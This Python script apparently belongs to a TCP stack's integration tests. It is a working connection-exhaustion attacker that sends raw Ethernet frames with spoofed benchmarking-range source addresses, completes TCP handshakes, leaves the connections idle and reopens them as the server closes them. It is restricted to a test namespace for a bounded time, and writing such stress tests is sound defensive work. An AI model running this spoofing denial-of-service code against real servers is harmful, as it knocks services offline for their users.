#!/usr/bin/env python3
"""The attacker of issue 25, for tests/integration/t_exhaust.sh: TCP connections from many spoofed
addresses, each handshake completed and then nothing sent (abandoned), re-opened as fast as the
server closes them, for a bounded time. Frames go in and out through the TAP with an AF_PACKET
socket, so it runs only inside the test's own network namespace; the spoofed sources are in the
benchmarking range 198.18.0.0/15 (RFC 2544), off-link for tapstack, so its answers go to the
namespace's kernel side (its gateway), which drops them (no forwarding in a fresh namespace).

usage: exhaust_attack.py IFACE STACK_MAC STACK_IP PORTS CONNS SECONDS NADDRS STATUS_FILE
  PORTS: comma-separated TCP ports; CONNS: connections to hold per port; NADDRS: spoofed addresses.
Every second it rewrites STATUS_FILE with one line of key=value figures and prints it; it ends by
itself after SECONDS.
"""
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
SYN, RST, ACK = 0x02, 0x04, 0x10


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


class Attacker:
    def __init__(self, iface, stack_mac, stack_ip, ports, conns, naddrs):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((iface, 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 << 20)
        self.sock.setblocking(False)
        self.dst_mac = mac_bytes(stack_mac)
        self.src_mac = bytes([0x02, 0xBA, 0xD0, 0, 0, 1])
        self.dst_ip = socket.inet_aton(stack_ip)
        self.ports = ports
        self.want = conns
        rnd = random.Random(25)
        self.addrs = [socket.inet_aton("198.18.%d.%d" % divmod(rnd.randrange(2, 65000), 256))
                      for _ in range(naddrs)]
        self.rnd = rnd
        self.conns = {}               # (src_ip, sport, dport) -> [state, our_isn, time]
        self.held = {p: 0 for p in ports}
        self.pending = {p: 0 for p in ports}
        self.opened = self.established = self.resets = self.fins = self.lost = 0

    def frame(self, src, sport, dport, seq, ack, flags):
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
        pseudo = src + self.dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), self.rnd.randrange(65536), 0, 64, 6,
                         0, src, self.dst_ip)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        return self.dst_mac + self.src_mac + b"\x08\x00" + ip + tcp

    def send(self, f):
        try:
            self.sock.send(f)
        except BlockingIOError:
            time.sleep(0.001)
            self.sock.send(f)

    def open_one(self, port):
        for _ in range(16):
            key = (self.rnd.choice(self.addrs), self.rnd.randrange(1024, 65536), port)
            if key not in self.conns:
                break
        else:
            return
        isn = self.rnd.randrange(1 << 32)
        self.conns[key] = ["syn", isn, time.monotonic()]
        self.pending[port] += 1
        self.opened += 1
        self.send(self.frame(key[0], key[1], port, isn, 0, SYN))

    def forget(self, key):
        st = self.conns.pop(key)
        if st[0] == "est":
            self.held[key[2]] -= 1
        else:
            self.pending[key[2]] -= 1

    def receive(self):
        for _ in range(4096):
            try:
                data, addr = self.sock.recvfrom(2048)
            except BlockingIOError:
                return
            if addr[2] == PACKET_OUTGOING or len(data) < 54 or data[12:14] != b"\x08\x00":
                continue
            ip = data[14:]
            if ip[9] != 6 or ip[12:16] != self.dst_ip:
                continue
            tcp = ip[(ip[0] & 15) * 4:]
            sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", tcp[:14])
            key = (ip[16:20], dport, sport)
            st = self.conns.get(key)
            if st is None:
                continue
            if flags & RST:
                self.resets += 1
                self.forget(key)
            elif flags & 0x01 and st[0] == "est":      # FIN: the server closed it; walk away
                self.fins += 1
                self.forget(key)
            elif st[0] == "syn" and flags & (SYN | ACK) == SYN | ACK and ack == (st[1] + 1) & 0xFFFFFFFF:
                self.send(self.frame(key[0], key[1], key[2], ack, (seq + 1) & 0xFFFFFFFF, ACK))
                st[0] = "est"
                self.pending[key[2]] -= 1
                self.held[key[2]] += 1
                self.established += 1
            # data (an FTP banner) and FINs are left unanswered: the client is gone

    def expire(self, now):
        old = [k for k, st in self.conns.items() if st[0] == "syn" and now - st[2] > 2.0]
        for k in old:
            self.lost += 1
            self.forget(k)

    def status(self):
        held = " ".join("held_%d=%d" % (p, n) for p, n in self.held.items())
        return "%s opened=%d established=%d resets=%d fins=%d lost=%d" % (
            held, self.opened, self.established, self.resets, self.fins, self.lost)


def main():
    iface, mac, ip, ports, conns, seconds, naddrs, status_file = sys.argv[1:9]
    a = Attacker(iface, mac, ip, [int(p) for p in ports.split(",")], int(conns), int(naddrs))
    end = time.monotonic() + float(seconds)
    next_status = 0.0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for p in a.ports:
            # keep CONNS held: re-open what the server closed, at most 500 SYNs a round
            for _ in range(min(500, a.want - a.held[p] - a.pending[p])):
                a.open_one(p)
        a.receive()
        a.expire(now)
        if now >= next_status:
            line = a.status()
            with open(status_file + ".tmp", "w") as f:
                f.write(line + "\n")
            os.replace(status_file + ".tmp", status_file)
            print(line, flush=True)
            next_status = now + 1.0
        time.sleep(0.002)
    print("end " + a.status(), flush=True)


if __name__ == "__main__":
    main()
